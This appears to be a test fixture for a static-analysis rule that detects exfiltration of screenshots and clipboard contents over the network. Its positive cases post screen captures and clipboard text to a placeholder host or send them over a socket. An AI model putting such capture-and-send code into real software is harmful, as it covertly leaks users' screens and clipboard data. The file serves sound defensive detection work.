import pyautogui
import pyperclip
import requests
from PIL import ImageGrab

ADDRESS = "https://pictures.example.invalid"


def watch(path):
    picture = ImageGrab.grab()
    picture.save(path)
    # ruleid: exfiltration/screen-to-network
    requests.post(ADDRESS, files={"picture": open(path, "rb")}, timeout=5)


def watch_clipboard():
    text = pyperclip.paste()
    # ruleid: exfiltration/screen-to-network
    requests.post(ADDRESS, data=text, timeout=5)


def watch_named(link):
    pyautogui.screenshot("now.png")
    # ruleid: exfiltration/screen-to-network
    link.sendall(open("now.png", "rb").read())


def save(path):
    picture = ImageGrab.grab()
    # ok: exfiltration/screen-to-network
    picture.save(path)


def upload(path):
    # ok: exfiltration/screen-to-network
    requests.post(ADDRESS, files={"picture": open(path, "rb")}, timeout=5)


def find(button):
    # ok: exfiltration/screen-to-network
    return pyautogui.locateOnScreen(button)


def paste():
    # ok: exfiltration/screen-to-network
    return pyperclip.paste().strip()
